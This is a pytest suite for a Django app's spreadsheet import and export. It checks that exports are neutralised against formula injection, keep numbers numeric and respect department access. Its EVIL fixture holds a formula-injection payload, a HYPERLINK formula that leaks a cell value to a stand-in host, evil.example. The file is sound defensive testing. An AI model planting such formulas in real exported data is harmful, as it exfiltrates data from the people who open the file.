"""django-import-export: the completion resource, the admin export and import.

Every export neutralises spreadsheet formulas in text cells; numbers stay numbers; an
export only holds the rows the user may see.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib.admin.sites import site
from django.contrib.auth.models import Permission
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from import_export.formats.base_formats import CSV, XLSX
from import_export.widgets import NumberWidget

from tests.factories import CompletionFactory, PersonFactory, SessionFactory
from training_monitor.resources import SafeResource
from trainings.models import CompletionStatus, TrainingCompletion
from trainings.resources import PersonResource, TrainingCompletionResource

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'
EXPORT_URL = "trainings_trainingcompletion_export"


@pytest.fixture
def completions(department, other_department):
    own = CompletionFactory(
        person__first_name=EVIL, person__last_name="Eigenaar", person__department=department
    )
    foreign = CompletionFactory(person__last_name="Vreemd", person__department=other_department)
    return own, foreign


def _format_index(response, name: str) -> str:
    for value, label in response.context["form"].fields["format"].choices:
        if str(label).lower() == name:
            return str(value)
    raise AssertionError(f"no {name} export")


def admin_export(client, name: str) -> bytes:
    url = reverse(f"admin:{EXPORT_URL}")
    page = client.get(url)
    assert page.status_code == 200
    fields = {
        f"trainingcompletionresource_{field}": "on"
        for field in TrainingCompletionResource.Meta.fields
    }
    response = client.post(url, {"format": _format_index(page, name), "resource": "0", **fields})
    assert response.status_code == 200, response.content[:500]
    return response.content


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(content: bytes) -> list[dict[str, object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(header, row, strict=True)) for row in rows]


def test_a_formula_in_a_name_is_exported_as_inert_text(completions) -> None:
    own, _ = completions
    dataset = TrainingCompletionResource().export(TrainingCompletion.objects.filter(pk=own.pk))
    assert dataset.dict[0]["first_name"] == "'" + EVIL
    assert dataset.dict[0]["last_name"] == "Eigenaar"


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_gets_an_apostrophe(department, trigger) -> None:
    person = PersonFactory(last_name=f"{trigger}1+1", department=department)
    dataset = PersonResource().export(type(person).objects.filter(pk=person.pk))
    assert dataset.dict[0]["last_name"] == f"'{trigger}1+1"


def test_numbers_stay_numbers_even_when_negative() -> None:
    from import_export.fields import Field

    class Figures(SafeResource):
        amount = Field(attribute="amount", column_name="amount", widget=NumberWidget())
        label = Field(attribute="label", column_name="label")

    rows = [{"amount": Decimal("-5"), "label": "-5"}]
    as_text = Figures().export(rows)
    assert as_text.dict[0]["amount"] == "-5"  # a number, rendered: no apostrophe
    assert as_text.dict[0]["label"] == "'-5"  # text that looks like a formula
    native = Figures().export(rows, force_native_type=True)
    assert native.dict[0]["amount"] == Decimal("-5")


def test_the_admin_csv_export_is_neutralised(client, admin_user_, completions) -> None:
    own, foreign = completions
    client.force_login(admin_user_)
    rows = csv_rows(admin_export(client, "csv"))
    assert sorted(row["id"] for row in rows) == sorted([str(own.pk), str(foreign.pk)])
    evil = next(row for row in rows if row["id"] == str(own.pk))
    assert evil["first_name"] == "'" + EVIL


def test_the_admin_xlsx_export_keeps_numbers_numeric(client, admin_user_, completions) -> None:
    own, foreign = completions
    client.force_login(admin_user_)
    rows = sorted(xlsx_rows(admin_export(client, "xlsx")), key=lambda row: str(row["id"]))
    assert {row["id"] for row in rows} == {own.pk, foreign.pk}
    assert isinstance(rows[0]["id"], int)
    assert isinstance(rows[0]["session"], int)
    evil = next(row for row in rows if row["id"] == own.pk)
    assert evil["first_name"] == "'" + EVIL
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(client, "xlsx"))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_admin_export_keeps_to_the_users_department_even_past_the_site(
    op_user, outsider, completions
) -> None:
    # Only administrators reach the admin; should the site ever let O&P staff in, their
    # export would still hold their own department's rows only.
    own, foreign = completions
    model_admin = site._registry[TrainingCompletion]
    view = Permission.objects.get(codename="view_trainingcompletion")
    for user, expected in ((op_user, own), (outsider, foreign)):
        user.user_permissions.add(view)  # as if somebody had given it by hand
        request = RequestFactory().get("/")
        request.user = type(user).objects.get(pk=user.pk)
        data = model_admin.get_export_data(CSV(), request, model_admin.get_export_queryset(request))
        rows = csv_rows(data.encode() if isinstance(data, str) else data)
        assert [row["id"] for row in rows] == [str(expected.pk)]


def test_the_resource_narrows_to_the_user_whatever_queryset_it_gets(outsider, completions) -> None:
    _own, foreign = completions
    dataset = TrainingCompletionResource(user=outsider).export(TrainingCompletion.objects.all())
    assert [row["id"] for row in dataset.dict] == [str(foreign.pk)]


def test_the_export_needs_the_same_queries_for_two_rows_as_for_twelve(
    admin_user_, completions
) -> None:
    model_admin = site._registry[TrainingCompletion]
    request = RequestFactory().get("/")
    request.user = admin_user_

    def export() -> tuple[int, str]:
        with CaptureQueriesContext(connection) as queries:
            data = model_admin.get_export_data(
                CSV(), request, model_admin.get_export_queryset(request)
            )
        return len(queries), data

    export()  # the first export also loads the user's roles and permissions

    few, _ = export()
    for _ in range(10):
        CompletionFactory()
    many, data = export()
    assert many == few
    assert data.count("\n") == 13


def test_only_administrators_may_import_through_the_admin(client, op_user, admin_user_) -> None:
    client.force_login(op_user)
    response = client.get(reverse("admin:trainings_trainingcompletion_import"))
    assert response.status_code == 302
    assert response.url.startswith(reverse("admin:login"))
    client.force_login(admin_user_)
    assert client.get(reverse("admin:trainings_trainingcompletion_import")).status_code == 200


def test_the_resource_imports_by_employee_number_and_session_without_duplicates(
    department,
) -> None:
    person = PersonFactory(employee_number="777", department=department)
    session = SessionFactory()
    dataset = XLSX().create_dataset(_xlsx_bytes([["777", session.pk, "attended"]]))
    for _ in range(2):
        result = TrainingCompletionResource().import_data(dataset, raise_errors=True)
        assert not result.has_errors()
    completion = TrainingCompletion.objects.get()
    assert (completion.person, completion.session) == (person, session)
    assert completion.status == CompletionStatus.ATTENDED


def _xlsx_bytes(rows: list[list[object]]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["employee_number", "session", "status"])
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_the_exports_show_the_whole_name_and_its_three_parts(department) -> None:
    completion = CompletionFactory(
        person__first_name="Anna", person__particle="de", person__last_name="Vries"
    )
    row = TrainingCompletionResource().export(TrainingCompletion.objects.all()).dict[0]
    assert [row[k] for k in ("name", "first_name", "particle", "last_name")] == [
        "Anna de Vries",
        "Anna",
        "de",
        "Vries",
    ]
    person = PersonResource().export(type(completion.person).objects.all()).dict[0]
    assert (person["first_name"], person["particle"], person["last_name"]) == (
        "Anna",
        "de",
        "Vries",
    )
